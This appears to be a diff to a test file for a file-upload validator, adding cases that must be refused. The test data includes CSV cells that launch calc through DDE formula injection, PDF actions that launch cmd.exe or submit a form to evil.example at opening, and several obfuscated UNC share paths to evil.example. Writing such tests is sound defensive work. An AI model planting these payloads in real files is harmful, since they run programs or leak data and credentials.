@@ -36,7 +36,9 @@ const TEXTS: readonly HandedInCase[] = [
   refused('content', 'notes.txt', 'a picture', () => pngOf()),
   refused('field-program', 'policies.csv', 'a cell that starts a program', text("a,b\n1,=cmd|' /C calc'!A0\n")),
   refused('field-program', 'policies.csv', 'the same, behind signs and blanks', text("a;b\n1; +=-MSEXCEL|'\\..\\..\\calc.exe'!A1\n")),
-  refused('scanner', 'eicar.txt', 'the scanners’ test file', text(EICAR)),
+  refused('test-virus', 'eicar.txt', 'the scanners’ test file', text(EICAR)),
+  refused('test-virus', 'eicar.csv', 'the same with a line’s end', text(`${EICAR}\r\n`)),
+  refused('scanner', 'eicar.txt', 'the scanners’ test file behind other words', text(`Minutes ${EICAR}`)),
 ]
 
 const PDFS: readonly HandedInCase[] = [
@@ -95,6 +97,46 @@ const PDFS: readonly HandedInCase[] = [
   ),
   refused('pdf-launch', 'report.pdf', 'a program to launch', () => pdfOf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] })),
   refused('pdf-launch', 'report.pdf', 'a way into a file within', () => pdfOf({ objects: ['<< /S /GoToE /D [0 /Fit] >>'] })),
+  refused('pdf-launch', 'report.pdf', 'a way into another file at opening', () =>
+    pdfOf({ catalog: '/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>' }),
+  ),
+  refused('pdf-launch', 'report.pdf', 'the same in an object stream', () =>
+    pdfOf({ catalog: '/OpenAction 9 0 R', objects: [objectStream('<< /S /GoTo#52 /F (other.pdf) /D [0 /Fit] >>')] }),
+  ),
+  refused('pdf-sends', 'report.pdf', 'a form that is sent at opening', () =>
+    pdfOf({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>' }),
+  ),
+  refused('pdf-sends', 'report.pdf', 'a form that a button sends', () => pdfOf({ objects: ['<< /A << /S /SubmitForm /F 6 0 R >> >>'] })),
+  taken('report.pdf', 'a title and a page that speak of a share and of a web site', () =>
+    pdfOf({
+      catalog: '/Lang (en) /OpenAction [3 0 R /Fit]',
+      objects: [
+        '<< /Title (\\\\\\\\fileserver\\\\minutes.docx) >>',
+        '<< /S /URI /URI (https://www.fdic.gov//a) >>',
+        objectStream('<< /Title (\\\\\\\\fileserver\\\\x) /F (page.pdf) >>'),
+      ],
+      contents: stream(Buffer.from('BT /F1 12 Tf (\\\\\\\\fileserver\\\\reports) Tj [(//x) (\\\\\\\\y)] TJ ET')),
+    }),
+  ),
+  ...[
+    ['as a file', '<< /Type /XObject /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /Length 0 >>'],
+    ['in octal', '<< /F (\\134\\134evil.example\\134share) >>'],
+    ['with slashes', '<< /Type /Filespec /UF (//evil.example/share/a) >>'],
+    ['as an address', '<< /S /URI /URI (file://evil.example/share) >>'],
+    ['as an address of backslashes', '<< /S /U#52I /URI(\\\\\\\\evil.example\\\\x) >>'],
+    ['in digits', '<< /F <5c5C 6576696C> >>'],
+    ['in wide digits', '<< /UF <FEFF005C005C0065> >>'],
+    ['in wide letters', '<< /UF (\xfe\xff\0\\\\\0\\\\\0e\0v) >>'],
+    ['behind another object', '(\\\\\\\\evil.example\\\\share)'],
+  ].map(([what, object]) =>
+    refused('pdf-share', 'report.pdf', `another machine’s share, ${what}`, () => pdfOf({ objects: [object ?? ''] })),
+  ),
+  refused('pdf-share', 'report.pdf', 'another machine’s share in an object stream', () =>
+    pdfOf({ objects: [objectStream('<< /F (\\\\\\\\evil.example\\\\share) >>')] }),
+  ),
+  refused('pdf-share', 'report.pdf', 'the same as a text of its own', () =>
+    pdfOf({ objects: ['<< /F 9 0 R >>', objectStream('(\\\\\\\\evil.example\\\\share)')] }),
+  ),
   refused('pdf-embedded', 'report.pdf', 'a file within', () => pdfOf({ objects: [stream(program, '/Type /EmbeddedFile')] })),
   refused('pdf-embedded', 'report.pdf', 'a tree of files within', () => pdfOf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' })),
   refused('pdf-embedded', 'report.pdf', 'media', () => pdfOf({ objects: ['<< /Subtype /RichMedia >>'] })),
